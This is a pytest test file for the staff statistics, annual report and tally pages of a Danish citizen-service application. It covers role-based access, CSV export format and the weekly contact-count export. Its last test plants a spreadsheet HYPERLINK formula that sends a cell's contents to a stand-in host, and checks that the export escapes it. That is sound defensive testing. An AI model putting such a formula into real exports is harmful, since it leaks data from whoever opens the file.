"""The statistics page, the annual report and the tally page as staff use
them: each role sees only what it may, over its own places; the exports
hold the figures in the shape Danish spreadsheets read."""

import csv
import io
from collections.abc import Callable
from datetime import datetime, timedelta

import pytest
from django.test import Client

from skranke.accounts.models import Role, User
from skranke.contact_centre.models import Contact, Topic, TopicGroup
from skranke.core import clock
from skranke.core.models import Location, Service
from skranke.information_and_cash_desks.models import Tally
from skranke.queueing.models import Visit
from tests.booking.test_staff_booking import member
from tests.stats.visits import make_visit

pytestmark = pytest.mark.django_db

StaffClient = Callable[[User], Client]
MONDAY_TEN = datetime(2026, 12, 7, 10, 0, tzinfo=clock.LOCAL_ZONE)


@pytest.fixture
def other_place(centre: Location) -> Location:
    return Location.objects.create(
        municipality=centre.municipality, name="Biblioteket", slug="bib", address="Torvet 3"
    )


def test_statistics_are_for_managers_and_administrators(
    centre: Location, staff_client: StaffClient
) -> None:
    for role, status in (
        (Role.FRONT_DESK, 403),
        (Role.CONTACT_AGENT, 403),
        (Role.MANAGER, 200),
        (Role.ADMINISTRATOR, 200),
    ):
        client = staff_client(member(role, centre))
        assert client.get("/personale/statistik/").status_code == status, role
        assert client.get("/personale/statistik/aarsrapport/2026/").status_code == status, role
        assert client.get("/personale/statistik/aarsrapport/2026.json").status_code == status


def test_a_manager_sees_the_figures_of_their_own_places_only(
    centre: Location, other_place: Location, passport: Service, staff_client: StaffClient
) -> None:
    passport.locations.add(other_place)
    for _ in range(3):
        make_visit(location=centre, service=passport, arrived=MONDAY_TEN)
    make_visit(location=other_place, service=passport, arrived=MONDAY_TEN)
    manager = staff_client(member(Role.MANAGER, centre))
    page = manager.get("/personale/statistik/", {"periode": "day", "dato": "2026-12-07"})
    assert page.context["overview"].visits.visits == 3
    asked_for_other = manager.get(
        "/personale/statistik/", {"periode": "day", "dato": "2026-12-07", "sted": other_place.pk}
    )
    assert asked_for_other.context["overview"].visits.visits == 3  # not theirs: all of theirs
    report = manager.get("/personale/statistik/aarsrapport/2026.json").json()
    assert report["visits"]["total"] == 3
    administrator = staff_client(member(Role.ADMINISTRATOR, centre))
    report = administrator.get("/personale/statistik/aarsrapport/2026.json").json()
    assert report["visits"]["total"] == 4


def test_the_page_shows_each_time_figure_with_what_it_rests_on(
    centre: Location, passport: Service, staff_client: StaffClient
) -> None:
    for minutes in (10, 12, 14, 16):
        make_visit(location=centre, service=passport, arrived=MONDAY_TEN, served=minutes)
    make_visit(
        location=centre, service=passport, arrived=MONDAY_TEN, served=500, not_ended_by_staff=True
    )
    manager = staff_client(member(Role.MANAGER, centre))
    page = manager.get("/personale/statistik/", {"periode": "week", "dato": "2026-12-07"})
    text = page.content.decode()
    assert page.status_code == 200
    assert "1 not ended by staff" in text
    assert "<desc" in text
    assert "<title>" in text
    service_time = page.context["overview"].visits.service_time
    assert (service_time.median, service_time.used, service_time.count) == (13.0, 4, 5)


def test_the_csv_has_semicolons_decimal_commas_and_a_total(
    centre: Location, passport: Service, card: Service, staff_client: StaffClient
) -> None:
    make_visit(location=centre, service=passport, arrived=MONDAY_TEN, served=12.5)
    make_visit(location=centre, service=card, arrived=MONDAY_TEN, served=7)
    manager = staff_client(member(Role.MANAGER, centre))
    response = manager.get(
        "/personale/statistik/",
        {"periode": "month", "dato": "2026-12-01", "gruppering": "service", "format": "csv"},
    )
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"Pas", "Sundhedskort", "Total"}
    header = rows[0]
    median = header.index("Service time: median, minutes")
    assert by_name["Pas"][median] == "12,5"
    assert by_name["Total"][header.index("Visits")] == "2"


def test_bad_choices_fall_back_instead_of_failing(
    centre: Location, staff_client: StaffClient
) -> None:
    manager = staff_client(member(Role.MANAGER, centre))
    page = manager.get(
        "/personale/statistik/",
        {"periode": "decade", "dato": "31-02-2026", "gruppering": "x", "sted": "x", "ydelse": "-1"},
    )
    assert page.status_code == 200
    assert page.context["kind"] == "month"
    assert manager.get("/personale/statistik/aarsrapport/1999/").status_code == 404


@pytest.mark.parametrize(
    "path",
    [
        "/personale/statistik/",
        "/personale/kontaktcenter/noegletal/",
        "/personale/beskeder/",
        "/personale/tider/aflys-dag/",
    ],
)
def test_an_impossible_date_is_said_not_replaced_silently(
    centre: Location, staff_client: StaffClient, path: str
) -> None:
    manager = staff_client(member(Role.MANAGER, centre))
    for value in ("9999-12-31", "31-02-2026"):
        page = manager.get(path, {"periode": "day", "dato": value, "fra": value, "dag": value})
        assert page.status_code == 200, path
        text = page.content.decode()
        assert f"“{value}”" in text, path
        assert "cannot be shown" in text or "kan ikke vises" in text, path
    plain = manager.get(path).content.decode()
    assert "cannot be shown" not in plain
    assert "kan ikke vises" not in plain


def test_the_desk_can_say_the_times_are_wrong(
    centre: Location, passport: Service, staff_client: StaffClient
) -> None:
    front_desk = member(Role.FRONT_DESK, centre)
    desk = centre.desks.first()
    assert desk is not None
    visit = make_visit(
        location=centre,
        service=passport,
        arrived=MONDAY_TEN,
        served=None,
        desk=desk,
        status=Visit.Status.IN_SERVICE,
    )
    client = staff_client(front_desk)
    client.post(
        f"/personale/skranke/{desk.pk}/handling/",
        {"action": "finish", "visit": visit.pk, "outcome": "served", "times_wrong": "yes"},
    )
    visit.refresh_from_db()
    assert visit.status == Visit.Status.ENDED
    assert visit.times_wrong


def test_one_click_counts_one_contact_and_a_slip_can_be_taken_back(
    centre: Location, staff_client: StaffClient
) -> None:
    clock.set_now(MONDAY_TEN)
    client = staff_client(member(Role.FRONT_DESK, centre))
    for kind in ("information_desk", "information_desk", "cash_desk"):
        client.post("/personale/optaelling/", {"sted": centre.pk, "kind": kind})
    assert Tally.objects.filter(kind="information_desk").count() == 2
    client.post(
        "/personale/optaelling/", {"sted": centre.pk, "kind": "cash_desk", "action": "undo"}
    )
    assert Tally.objects.filter(kind="cash_desk").count() == 0
    page = client.get("/personale/optaelling/")
    assert "Today: 2" in page.content.decode()
    clock.set_now(MONDAY_TEN + timedelta(days=1))
    client.post(
        "/personale/optaelling/", {"sted": centre.pk, "kind": "information_desk", "action": "undo"}
    )
    assert Tally.objects.count() == 2  # yesterday's are not taken back


def test_a_manager_marks_a_visits_times_wrong_afterwards_in_their_own_places_only(
    centre: Location, other_place: Location, passport: Service, staff_client: StaffClient
) -> None:
    own = make_visit(location=centre, service=passport, arrived=MONDAY_TEN)
    elsewhere = make_visit(location=other_place, service=passport, arrived=MONDAY_TEN)
    manager = staff_client(member(Role.MANAGER, centre))
    changelist = manager.get("/admin/queueing/visit/")
    assert changelist.status_code == 200
    assert list(changelist.context["cl"].queryset) == [own]
    manager.post(
        "/admin/queueing/visit/",
        {"action": "times_are_wrong", "_selected_action": [own.pk, elsewhere.pk]},
    )
    own.refresh_from_db()
    elsewhere.refresh_from_db()
    assert own.times_wrong
    assert not elsewhere.times_wrong
    front_desk = staff_client(member(Role.FRONT_DESK, centre))
    assert front_desk.get("/admin/queueing/visit/").status_code in (302, 403)


def test_the_counting_week_counts_every_channel_by_kle_area_and_kind(
    centre: Location, passport: Service, staff_client: StaffClient
) -> None:
    passport.kle_number = "05.04.00"
    passport.save()
    group = TopicGroup.objects.create(municipality=centre.municipality, name_da="Borgerservice")
    topic = Topic.objects.create(
        municipality=centre.municipality, name_da="Pas", group=group, kle_number="05.04.00"
    )
    for _ in range(2):
        make_visit(location=centre, service=passport, arrived=MONDAY_TEN)
    make_visit(location=centre, service=passport, arrived=MONDAY_TEN + timedelta(days=7))
    for kind in ("information", "information", "transaction"):
        Contact.objects.create(
            municipality=centre.municipality,
            channel=Contact.Channel.PHONE,
            topic=topic,
            outcome=Contact.Outcome.SETTLED,
            kind=kind,
            at=MONDAY_TEN + timedelta(days=2),
        )
    Tally.objects.create(location=centre, kind=Tally.Kind.CASH_DESK, at=MONDAY_TEN)
    manager = staff_client(member(Role.MANAGER, centre))
    response = manager.get("/personale/statistik/optaellingsuge/", {"dato": "2026-12-09"})
    assert response["Content-Disposition"].endswith('optaellingsuge-2026-uge-50.csv"')
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Channel", "KLE number", "Area", "Kind", "Contacts"]
    assert sorted(rows[1:]) == sorted(
        [
            ["Personal visit", "05.04.00", "Pas", "", "2"],
            ["Phone", "05.04.00", "Pas", "Information (a question answered)", "2"],
            ["Phone", "05.04.00", "Pas", "Transaction (an errand done)", "1"],
            ["Cash desk", "", "Cash desk", "Transaction (an errand done)", "1"],
        ]
    )


def test_a_name_that_looks_like_a_formula_stays_text_in_the_counting_week(
    centre: Location, passport: Service, staff_client: StaffClient
) -> None:
    """The counting week goes to KL: a service named as a formula must not
    become a live link in whoever opens the file."""
    passport.name_da = '=HYPERLINK("http://example.com/?"&A2,"Klik her")'
    passport.kle_number = "05.04.00"
    passport.save()
    make_visit(location=centre, service=passport, arrived=MONDAY_TEN)
    manager = staff_client(member(Role.MANAGER, centre))
    response = manager.get("/personale/statistik/optaellingsuge/", {"dato": "2026-12-09"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    (row,) = rows[1:]
    assert row[2] == "'" + passport.name_da
    assert row[4] == "1"
